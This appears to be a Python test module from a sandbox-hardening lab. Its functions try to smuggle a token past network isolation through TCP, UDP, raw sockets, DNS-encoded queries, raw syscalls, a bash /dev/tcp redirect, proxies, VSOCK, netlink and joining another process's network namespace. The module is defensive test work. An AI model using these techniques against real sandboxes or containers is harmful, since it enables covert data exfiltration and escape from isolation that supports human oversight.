"""Attacks that send bytes out of the house. The token at the sink is the proof."""

import ctypes
import os
import socket
import struct
import subprocess
import sys

from tests.lab.hostile import Plan, attack, libc, syscall

X86 = os.uname().machine == "x86_64"
ORDINARY = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6}


def _send(connection: socket.socket, token: bytes) -> None:
    connection.settimeout(2)
    connection.sendall(token)
    connection.shutdown(socket.SHUT_WR)
    connection.recv(1)  # wait until it has been taken


def _connect(plan: Plan, token: bytes, family: socket.AddressFamily, protocol: int = 0) -> None:
    host = plan.sinks[family == socket.AF_INET6]
    with socket.socket(family, socket.SOCK_STREAM, protocol) as out:
        out.settimeout(2)
        out.connect((host, 443))
        _send(out, token)


@attack("sink")
def attack_tcp(plan: Plan, token: bytes) -> None:
    _connect(plan, token, socket.AF_INET)


@attack("sink")
def attack_tcp6(plan: Plan, token: bytes) -> None:
    _connect(plan, token, socket.AF_INET6)


@attack("sink")
def attack_mptcp(plan: Plan, token: bytes) -> None:
    _connect(plan, token, socket.AF_INET, 262)


@attack("sink")
def attack_tcp_fast_open(plan: Plan, token: bytes) -> None:
    with socket.socket() as out:
        out.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE: data in the very first packet
        out.sendto(token, socket.MSG_FASTOPEN, (plan.sinks[0], 443))
        out.shutdown(socket.SHUT_WR)
        out.recv(1)


@attack("sink")
def attack_udp(plan: Plan, token: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(token, (plan.sinks[0], 443))


@attack("sink")
def attack_udp6(plan: Plan, token: bytes) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as out:
        out.sendto(token, (plan.sinks[1], 443))


@attack("sink")
def attack_udp_broadcast(plan: Plan, token: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        out.sendto(token, (plan.sinks[0].rpartition(".")[0] + ".255", 1900))


@attack("sink", as_user=False)
def attack_raw_ip(plan: Plan, token: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as out:  # 253: for experiments, RFC 3692
        out.sendto(token, (plan.sinks[0], 0))


@attack("sink", as_user=False)
def attack_raw_ethernet(plan: Plan, token: bytes) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind(("home0", 0))
        other = bytes.fromhex("020000000002")
        out.send(other + bytes.fromhex("020000000001") + struct.pack(">H", 0x0800) + b"E" + bytes(19) + token)


@attack("sink", as_user=False)
def attack_bound_to_device(plan: Plan, token: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"home0")
        out.sendto(token, (plan.sinks[0], 7))


@attack("sink")
def attack_name_by_libc(plan: Plan, token: bytes) -> None:
    del plan
    with_dots = f"{token.decode()}.example.com"
    try:
        socket.getaddrinfo(with_dots, 443)
    except OSError:
        return  # the question itself was the message


@attack("sink")
def attack_name_by_hand(plan: Plan, token: bytes) -> None:
    labels = b"".join(bytes([len(label)]) + label for label in (token, b"example", b"com"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1", (plan.sinks[0], 53))


@attack("sink")
def attack_raw_system_calls(plan: Plan, token: bytes) -> None:
    sockets, connect, write = (41, 42, 1) if X86 else (198, 203, 64)
    out = syscall(sockets, socket.AF_INET, socket.SOCK_STREAM, 0)
    address = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 443) + socket.inet_aton(plan.sinks[0])
    syscall(connect, out, address + bytes(8), 16)
    syscall(write, out, token, len(token))


@attack("sink")
def attack_child_shell(plan: Plan, token: bytes) -> None:
    script = f"exec 3<>/dev/tcp/{plan.sinks[0]}/443; printf %s {token.decode()} >&3"
    subprocess.run(["/bin/bash", "-c", script], check=True, stderr=subprocess.DEVNULL)


@attack("sink")
def attack_child_python(plan: Plan, token: bytes) -> None:
    script = f"import socket; socket.create_connection(({plan.sinks[0]!r}, 443), 2).sendall({token!r})"
    environ = {"PATH": "/usr/bin"}
    subprocess.run(
        [sys.executable, "-I", "-S", "-c", script], check=True, env=environ, stderr=subprocess.DEVNULL
    )


@attack("sink")
def attack_proxy_of_the_environment(plan: Plan, token: bytes) -> bool:
    del plan
    host, _, port = os.environ["HTTP_PROXY"].removeprefix("http://").partition(":")
    with socket.create_connection((host, int(port)), 2) as out:
        _send(out, token)
    return True


@attack("claim")
def attack_io_uring(plan: Plan, token: bytes) -> bool:
    del plan, token
    return syscall(425, 8, bytes(ctypes.sizeof(ctypes.c_uint32) * 30)) >= 0


@attack("claim")
def attack_other_families(plan: Plan, token: bytes) -> bool:
    """Sockets of every family there is; any that is not ordinary is a way around the network namespace."""
    del plan, token
    return any(_opens(family) for family in range(47) if family not in ORDINARY)


def _opens(family: int) -> bool:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind).close()
        except OSError:
            continue
        return True
    return False


@attack("claim")
def attack_machine_to_host(plan: Plan, token: bytes) -> bool:
    """AF_VSOCK knows no network namespaces: from a virtual machine it reaches its host. Opened here, never
    used.
    """
    del plan, token
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return True


@attack("claim")
def attack_netlink(plan: Plan, token: bytes) -> bool:
    del plan, token
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as out:
        out.bind((0, 0))
        return True


@attack("claim")
def attack_other_interface(plan: Plan, token: bytes) -> bool:
    """Loopback is all there may be."""
    del plan, token
    with open("/proc/self/net/dev") as table:  # noqa: PTH123 -- as plain as hostile code is
        return any("home0" in line for line in table)


@attack("claim", as_user=False)
def attack_another_network(plan: Plan, token: bytes) -> bool:
    """Join the network namespace of a process of the machine."""
    del token
    path = f"/proc/{plan.pids['stop']}/ns/net".encode()
    fd = syscall(2 if X86 else 56, *((path, 0) if X86 else (-100, path, 0)))
    if libc.setns(fd, 0) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return True
